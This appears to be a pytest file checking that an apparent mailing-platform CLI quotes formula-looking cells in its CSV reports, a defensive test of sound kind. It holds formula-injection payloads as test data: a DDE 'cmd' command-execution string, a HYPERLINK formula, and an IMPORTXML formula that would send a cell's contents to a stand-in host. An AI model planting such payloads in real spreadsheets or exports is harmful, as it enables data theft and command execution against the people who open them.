"""Formula injection: every export a spreadsheet may open shows cells starting with = + - @ as text.

Identifiers come from the user's files (a "=HYPERLINK(...)" line is kept as given in the report, so
the user can find it), target names and reasons from the platform: none of it is ours. Checked here
for the CLI report and `jobs show --report`; the window's export and copy are checked in
tests/ui/test_window_corpus.py and tests/ui/test_results_panel.py.
"""

from __future__ import annotations

import csv
import re
from pathlib import Path

from .conftest import Loopback

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = ['=HYPERLINK("http://x.invalid","click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"]


def read_rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.DictReader(f))


def assert_no_live_formula(rows: list[dict[str, str]]) -> None:
    assert rows
    for row in rows:
        for column in ("identifier", "target", "reason"):
            assert not row[column].startswith(DANGEROUS), f"{column} {row[column]!r} would be a formula"


def test_cli_report_and_jobs_show_report_neutralise_formulas(loopback: Loopback, tmp_path: Path) -> None:
    sb = loopback.sb
    tag = '=IMPORTXML(CONCAT("http://x.invalid/?",A1),"//a")'  # a tag name is the platform's text
    sb.state.kit.create_tag(tag)
    ids = [str(i) for i in sb.known_subscriber_ids(3)]
    source = tmp_path / "list.txt"
    source.write_text("\n".join([*ids, *PAYLOADS]) + "\n", encoding="utf-8")
    report = tmp_path / "report.csv"
    run = loopback.run(
        [
            "apply",
            *loopback.kit_args(),
            "--action",
            "tag",
            "--target",
            tag,
            "--report",
            str(report),
            str(source),
        ]
    )
    assert run.code in (0, 1), run.stderr
    rows = read_rows(report)
    assert len(rows) == len(ids) + len(PAYLOADS)
    assert_no_live_formula(rows)
    shown = {r["identifier"] for r in rows}
    assert all("'" + p in shown for p in PAYLOADS), shown  # kept as given, one quote in front
    assert all(r["target"] == "'" + tag for r in rows)

    job = re.search(r"job (\w+) \(see:", run.stderr)
    assert job is not None, run.stderr
    again = tmp_path / "again.csv"
    show = loopback.run(["jobs", "show", job.group(1), "--report", str(again)])
    assert show.code == 0, show.stderr
    assert_no_live_formula(read_rows(again))
    assert read_rows(again) == rows

    for text in (run.stdout, run.stderr, show.stdout, show.stderr, report.read_text("utf-8-sig")):
        assert not any(s in text for s in loopback.secrets)
